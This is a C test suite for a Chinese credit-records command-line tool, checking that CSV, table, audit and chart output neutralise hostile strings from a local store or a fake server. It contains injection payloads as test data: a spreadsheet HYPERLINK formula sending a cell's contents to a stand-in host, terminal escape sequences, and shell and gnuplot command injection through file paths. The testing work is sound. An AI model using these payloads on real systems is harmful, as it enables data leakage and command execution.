/* chengxin output safety: what a store or a server holds cannot reach a spreadsheet as a formula
 * (CSV), a terminal as an escape sequence (table, vertical, audit, chart) or a shell (--plot).
 * Strings the store refuses today still come from older stores and from any server: a fake
 * server (one canned answer per op) sends them. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <msgpack.h>

#include <sys/prctl.h>

#include "clitest.h"

TestSuite(output, .init = cli_setup, .fini = cli_teardown, .timeout = 120);

static char A[19], B[19], AUTH[19];

/* A local store whose names and record ids are text (the store takes them) that a spreadsheet
 * would run as formulas. */
static void formula_store(void) {
  uscc("91350100MA0000001", A);
  uscc("91350102MA0000002", B);
  uscc("11350100003000001", AUTH);
  char csv[2048];
  snprintf(csv, sizeof csv,
           "entity_code,entity_name,record_id,authority_code,authority_name,category,decision_date,amount_fen\n"
           "%s,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",-2+3,%s,@SUM(A1),penalty,2024-03-05,500\n"
           "%s,+1 公司,普通-1,%s,福州市市场监督管理局,penalty,2024-03-06,700\n",
           A, AUTH, B, AUTH);
  spit("f.csv", csv);
  cr_assert_eq(cx("init --db st"), 0);
  cr_assert_eq(cx("import --db st f.csv"), 0, "%s", slurp("err"));
}

Test(output, csv_cells_beginning_with_equals_plus_minus_or_at_are_neutralised_unless_raw) {
  formula_store();
  cr_assert_eq(cx("records --db st %s --format csv", A), 0, "%s", slurp("err"));
  char *out = slurp("out");
  cr_assert(strstr(out, "\"'-2+3\""), "record_id not neutralised:\n%s", out);
  cr_assert(strstr(out, "\"'@SUM(A1)\""), "authority_name not neutralised:\n%s", out);
  cr_assert(strstr(out, "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""), "entity_name:\n%s", out);
  cr_assert(strstr(out, ",500,"), "a number stays a number:\n%s", out);
  cr_assert(!strstr(out, ",=") && !strstr(out, ",-2") && !strstr(out, ",@"), "%s", out);
  free(out);
  cr_assert_eq(cx("search --db st +1 --format csv"), 0, "%s", slurp("err"));
  cr_assert(out_has("out", "\"'+1 公司\""), "%s", slurp("out"));
  /* --raw: what the store holds, for scripts that want it */
  cr_assert_eq(cx("records --db st %s --format csv --raw", A), 0, "%s", slurp("err"));
  cr_assert(out_has("out", "\n-2+3,"), "%s", slurp("out"));
  cr_assert(out_has("out", ",@SUM(A1),"));
  /* JSON is not a spreadsheet: values as they are */
  cr_assert_eq(cx("records --db st %s --format json", A), 0);
  json_t *j = out_json();
  cr_assert_str_eq(json_string_value(json_object_get(json_array_get(j, 0), "record_id")), "-2+3");
  json_decref(j);
}

Test(output, chengxin_audit_shows_a_reason_with_a_line_feed_as_backslash_n_and_refuses_an_escape) {
  formula_store();
  cr_assert_eq(cx("objection --db st --authority %s --record-id 普通-1 --reason \"$(printf '第一行\\n第二行')\"", AUTH), 0,
               "%s", slurp("err"));
  cr_assert_eq(cx("objection --db st --authority %s --record-id 普通-1 --withdraw --reason \"$(printf 'ok\\033[2K\\rfaked')\"",
                  AUTH), 2, "an escape sequence in a reason is refused");
  cr_assert(out_has("err", "reason: control character U+001B at byte 2"), "%s", slurp("err"));
  cr_assert_eq(cx("audit --db st"), 0);
  char *out = slurp("out");
  cr_assert(strstr(out, "第一行\\n第二行"), "%s", out);
  cr_assert(!strstr(out, "第一行\n"), "a raw line feed breaks the table:\n%s", out);
  cr_assert(!strchr(out, 0x1b) && !strchr(out, '\r'), "%s", out);
  free(out);
  cr_assert_eq(cx("audit --db st --format csv"), 0);
  cr_assert(out_has("out", "第一行\n第二行"), "csv keeps the value (quoted)");
}

Test(output, agg_plot_with_a_command_substitution_in_the_path_runs_no_shell) {
  formula_store();
  int rc = cx("agg --db st --by category --plot 'x$(touch PWNED).png'");
  char path[512];
  snprintf(path, sizeof path, "%s/PWNED", g_dir);
  cr_assert(access(path, F_OK) != 0, "the path ran a command");
  snprintf(path, sizeof path, "%s/x$(touch PWNED).png", g_dir);
  if (rc == 0) cr_assert(access(path, F_OK) == 0, "the chart has the literal name");
  /* quotes and newlines cannot break out of gnuplot's string either */
  rc = cx("agg --db st --by category --plot \"$(printf 'a\\nsystem \\042touch PWNED2\\042\\n.png')\"");
  snprintf(path, sizeof path, "%s/PWNED2", g_dir);
  cr_assert(access(path, F_OK) != 0, "the path ran a gnuplot command");
  cr_assert_eq(rc, 2, "a path with a control character is a usage error");
  rc = cx("agg --db st --by category --plot \"it's'; system 'touch PWNED3'; '.png\"");
  snprintf(path, sizeof path, "%s/PWNED3", g_dir);
  cr_assert(access(path, F_OK) != 0, "a quote in the path ran a gnuplot command");
}

/* ---------------------------------------------------------------- a server that lies */

static void pk_s(msgpack_packer *pk, const char *s, size_t n) { msgpack_pack_str_with_body(pk, s, n); }
#define PKL(pk, lit) pk_s(pk, lit, sizeof(lit) - 1)

/* The canned result of op (search, entity, aggregate). */
static void canned(msgpack_packer *pk, const char *op) {
  if (strcmp(op, "search") == 0) {
    static const struct { const char *s; size_t n; } names[] = {
        {"甲\x1b[2K\r乙", 11}, {"R-BAD\xffhidden", 12}, {"R-BAD\0hidden", 12}, {"\t=1+1", 5}, {"\r-1", 3},
        {"普通", 6}};
    PKL(pk, "results");
    msgpack_pack_array(pk, 6);
    for (int i = 0; i < 6; i++) {
      msgpack_pack_map(pk, 3);
      PKL(pk, "code"); PKL(pk, "91350100MA0000001");
      PKL(pk, "name"); pk_s(pk, names[i].s, names[i].n);
      PKL(pk, "kind"); PKL(pk, "enterprise");
    }
  } else if (strcmp(op, "entity") == 0) {
    PKL(pk, "code"); PKL(pk, "91350100MA0000001");
    PKL(pk, "name"); PKL(pk, "第一行\n第二行\x1b]0;title\x07");
    PKL(pk, "kind"); PKL(pk, "enterprise");
    PKL(pk, "counts"); msgpack_pack_map(pk, 0);
  } else { /* aggregate */
    PKL(pk, "columns");
    msgpack_pack_array(pk, 2);
    PKL(pk, "city"); PKL(pk, "count");
    PKL(pk, "rows");
    msgpack_pack_array(pk, 1);
    msgpack_pack_array(pk, 2);
    PKL(pk, "-x\x1b[31m");
    msgpack_pack_int64(pk, -5);
    PKL(pk, "from_rollup"); msgpack_pack_true(pk);
    PKL(pk, "scanned"); msgpack_pack_uint32(pk, 0);
  }
}

/* Answers every request of every connection with its op's canned result; never returns. */
static void fake_serve(int lfd) {
  for (;;) {
    int fd = accept(lfd, NULL, NULL);
    if (fd < 0) _exit(0);
    for (;;) {
      unsigned char hdr[4];
      if (recv(fd, hdr, 4, MSG_WAITALL) != 4) break;
      uint32_t n = (uint32_t)hdr[0] << 24 | (uint32_t)hdr[1] << 16 | (uint32_t)hdr[2] << 8 | hdr[3];
      char *p = malloc(n ? n : 1);
      if (recv(fd, p, n, MSG_WAITALL) != (ssize_t)n) _exit(1);
      msgpack_unpacked u;
      msgpack_unpacked_init(&u);
      uint64_t id = 0;
      char op[32] = "";
      if (msgpack_unpack_next(&u, p, n, NULL) == MSGPACK_UNPACK_SUCCESS && u.data.type == MSGPACK_OBJECT_MAP) {
        for (uint32_t i = 0; i < u.data.via.map.size; i++) {
          const msgpack_object *k = &u.data.via.map.ptr[i].key, *v = &u.data.via.map.ptr[i].val;
          if (k->type != MSGPACK_OBJECT_STR) continue;
          if (k->via.str.size == 2 && memcmp(k->via.str.ptr, "id", 2) == 0) id = v->via.u64;
          if (k->via.str.size == 2 && memcmp(k->via.str.ptr, "op", 2) == 0 && v->type == MSGPACK_OBJECT_STR)
            snprintf(op, sizeof op, "%.*s", (int)v->via.str.size, v->via.str.ptr);
        }
      }
      msgpack_unpacked_destroy(&u);
      free(p);
      msgpack_sbuffer sb;
      msgpack_sbuffer_init(&sb);
      msgpack_packer pk;
      msgpack_packer_init(&pk, &sb, msgpack_sbuffer_write);
      msgpack_pack_map(&pk, 3);
      PKL(&pk, "id"); msgpack_pack_uint64(&pk, id);
      PKL(&pk, "ok"); msgpack_pack_true(&pk);
      PKL(&pk, "result");
      msgpack_pack_map(&pk, strcmp(op, "search") == 0 ? 1 : 4);
      canned(&pk, op);
      unsigned char h[4] = {(unsigned char)(sb.size >> 24), (unsigned char)(sb.size >> 16),
                            (unsigned char)(sb.size >> 8), (unsigned char)sb.size};
      if (send(fd, h, 4, MSG_NOSIGNAL) != 4 || send(fd, sb.data, sb.size, MSG_NOSIGNAL) != (ssize_t)sb.size) break;
      msgpack_sbuffer_destroy(&sb);
    }
    close(fd);
  }
}

static pid_t g_fake;
static int fake_start(void) {
  int lfd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  cr_assert_eq(bind(lfd, (struct sockaddr *)&a, sizeof a), 0);
  cr_assert_eq(listen(lfd, 8), 0);
  socklen_t sl = sizeof a;
  getsockname(lfd, (struct sockaddr *)&a, &sl);
  g_fake = fork();
  cr_assert(g_fake >= 0);
  if (g_fake == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL); /* a failed assertion skips fake_stop: never outlive the test */
    fake_serve(lfd);
  }
  close(lfd);
  return ntohs(a.sin_port);
}
static void fake_stop(void) {
  kill(g_fake, SIGKILL);
  waitpid(g_fake, NULL, 0);
}

Test(output, table_and_vertical_output_escape_escape_sequences_line_feeds_and_bad_bytes_from_a_server) {
  int port = fake_start();
  cr_assert_eq(cx("search 甲 --connect 127.0.0.1:%d", port), 0, "%s", slurp("err"));
  char *out = slurp("out");
  cr_assert(!strchr(out, 0x1b) && !strchr(out, '\r') && !strchr(out, '\t'), "raw control bytes:\n%s", out);
  cr_assert(strstr(out, "甲\\x1b[2K\\r乙"), "%s", out);
  cr_assert(strstr(out, "R-BAD\\xffhidden"), "a name that is not UTF-8 must show, not be empty:\n%s", out);
  cr_assert(strstr(out, "R-BAD\\x00hidden"), "a NUL must not hide the rest:\n%s", out);
  cr_assert(strstr(out, "\\t=1+1"), "%s", out);
  int lines = 0;
  for (char *p = out; *p; p++) lines += *p == '\n';
  cr_assert_eq(lines, 9, "header, rule, six rows, (6 rows):\n%s", out);
  free(out);
  cr_assert_eq(cx("status 91350100MA0000001 --connect 127.0.0.1:%d", port), 0, "%s", slurp("err"));
  out = slurp("out");
  cr_assert(strstr(out, "第一行\\n第二行\\x1b]0;title\\x07"), "%s", out);
  cr_assert(!strchr(out, 0x1b) && !strchr(out, 0x07), "%s", out);
  free(out);
  /* csv: TAB and CR at the start are neutralised too; a NUL or a bad byte shows escaped */
  cr_assert_eq(cx("search 甲 --connect 127.0.0.1:%d --format csv", port), 0, "%s", slurp("err"));
  cr_assert(out_has("out", "\"'\t=1+1\""), "%s", slurp("out"));
  cr_assert(out_has("out", "\"'\r-1\""), "%s", slurp("out"));
  cr_assert(out_has("out", "R-BAD\\x00hidden"), "%s", slurp("out"));
  /* json: every value present and valid (jansson refuses to build a string that is not UTF-8) */
  cr_assert_eq(cx("search 甲 --connect 127.0.0.1:%d --format json", port), 0, "%s", slurp("err"));
  json_t *j = out_json();
  cr_assert_eq(json_array_size(j), 6);
  cr_assert_str_eq(json_string_value(json_object_get(json_array_get(j, 1), "name")), "R-BAD\\xffhidden");
  json_decref(j);
  /* a negative number in a numeric column is a number, not a formula; the text cell is not */
  cr_assert_eq(cx("agg --by city --connect 127.0.0.1:%d --format csv", port), 0, "%s", slurp("err"));
  cr_assert(out_has("out", "\"'-x\x1b[31m\",,-5\n"), "%s", slurp("out")); /* no city_code given */
  cr_assert_eq(cx("agg --by city --connect 127.0.0.1:%d --chart", port), 0, "%s", slurp("err"));
  cr_assert(!out_has("out", "\x1b"), "the chart prints labels raw");
  fake_stop();
}
